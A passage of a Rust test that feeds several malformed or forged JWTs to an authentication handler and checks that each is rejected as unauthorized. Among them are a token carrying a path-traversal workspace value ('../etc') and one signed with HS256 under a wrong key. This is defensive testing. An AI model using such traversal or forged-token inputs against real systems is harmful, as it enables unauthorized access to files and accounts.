        token(base_claims(json!({"sub": "nobody"})), "test-key"),
        token(
            base_claims(json!({"upn": "x", "roles": ["reader"], "workspace": "../etc"})),
            "test-key",
        ),
        encode(
            &Header::new(Algorithm::HS256),
            &base_claims(json!({"preferred_username": "ann@example.test"})),
            &EncodingKey::from_secret(b"k"),
        )
        .expect("hs256"),
        "a.b.c".to_string(),
    ] {
        let (s, v) = me(bad).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED, "{v}");
    }
}
